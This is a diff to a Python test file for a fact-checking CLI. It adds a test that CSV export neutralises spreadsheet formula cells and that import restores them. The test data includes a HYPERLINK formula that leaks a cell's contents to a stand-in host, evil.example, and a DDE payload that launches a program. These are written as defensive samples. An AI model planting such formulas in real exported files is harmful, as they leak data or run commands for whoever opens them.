@@ -197,7 +197,12 @@ def test_a_bad_row_imports_nothing_and_names_the_line(
     result = factledger("import", "csv", str(path))
     assert result.exit_code == 1
     assert fragment in result.stderr
-    assert len(result.stderr.strip().splitlines()) == 1
+    # The bad record on a line of its own, then the summary: nothing imported.
+    lines = result.stderr.strip().splitlines()
+    assert len(lines) == 2
+    assert fragment in lines[0]
+    assert "1 bad" in lines[1]
+    assert "nothing imported" in lines[1]
     assert factledger.json("claims", "list") == []
     assert factledger.json("sources", "list") == []
 
@@ -230,6 +235,43 @@ def test_reimport_is_a_no_op(factledger: Factledger, tmp_path: Path) -> None:
     factledger("export", "csv", "-o", str(out))
     again = json.loads(factledger("import", "csv", str(out), "--json").stdout)
     assert again == {"claims_created": 0, "claims_matched": 3, "evidence_added": 0, "sources": 2}
+
+
+def test_formula_cells_are_neutralised_on_export_and_restored_on_import(
+    factledger: Factledger, tmp_path: Path
+) -> None:
+    # Hostile input: claim texts, a speaker and a quote that a spreadsheet would run as formulas. On
+    # main `export csv` wrote them unchanged, so `=HYPERLINK(...)` ran when the file was opened.
+    hostile = [
+        '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
+        "+cmd|' /C calc'!A0",
+        "-2+3 is what the minister said",
+        "@SUM(1+1)",
+        "'=already quoted by someone",
+    ]
+    for text in hostile:
+        added = factledger("claims", "add", "--speaker", "@handle", "--", text)  # "--": "-2+3" is no option
+        assert added.exit_code == 0, added.stderr
+    claim_id = str(factledger.json("claims", "list")[0]["id"])
+    cited = factledger(
+        "cite", claim_id, "https://example.org/a", "--stance", "supports", "--quote", "=1+1 in the release"
+    )
+    assert cited.exit_code == 0, cited.stderr
+    exported = tmp_path / "claims.csv"
+    assert factledger("export", "csv", "-o", str(exported)).exit_code == 0
+    with exported.open(newline="", encoding="utf-8") as handle:
+        rows = list(csv.DictReader(handle))
+    for row in rows:
+        for column, cell in row.items():
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
+    assert {row["text"] for row in rows} == {"'" + text for text in hostile}
+    assert {row["speaker"] for row in rows} == {"'@handle"}
+    assert "'=1+1 in the release" in {row["quote"] for row in rows}
+
+    # Import restores the texts: every claim matches its original, none comes back with an apostrophe.
+    imported = factledger.json("import", "csv", str(exported))
+    assert imported["claims_created"] == 0
+    assert imported["claims_matched"] == len(hostile)
 
 
 def test_a_speaker_kind_without_a_speaker_is_refused(factledger: Factledger, tmp_path: Path) -> None:
